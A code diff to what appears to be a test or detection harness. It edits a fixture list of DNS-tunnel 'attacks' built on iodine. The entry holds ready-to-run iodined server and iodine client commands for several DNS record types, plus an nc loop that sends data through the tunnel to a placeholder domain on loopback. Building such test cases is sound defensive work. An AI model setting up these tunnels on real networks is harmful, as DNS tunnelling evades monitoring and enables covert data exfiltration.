@@ -8,7 +8,7 @@ export const DNS_TUNNELS: readonly Attack[] = [
     holds: 'iodine with NULL, TXT, CNAME, MX and A records, and data through it',
     programs: ['iodine', 'iodined', 'ip'],
     acts: ['NULL', 'TXT', 'CNAME', 'MX', 'A'].map((type, index) => ({
-      servers: [`exec iodined -f -c -4 -l 127.0.0.1 -P secret -d srv${index} 10.5.${index}.1/24 t.example`],
+      servers: [`exec iodined -f -c -l 127.0.0.1 -P secret -d srv${index} 10.5.${index}.1/24 t.example`],
       clients: `timeout 7 iodine -f -4 -r -T ${type} -P secret -d cli${index} 127.0.0.1 t.example & sleep 4
 for round in 1 2 3; do printf 'through the tunnel %s' $round | timeout 0.3 nc -nu -s 10.5.${index}.2 10.5.${index}.77 9; done; wait`,
       expected: /Connection setup complete|Server tunnel IP/,
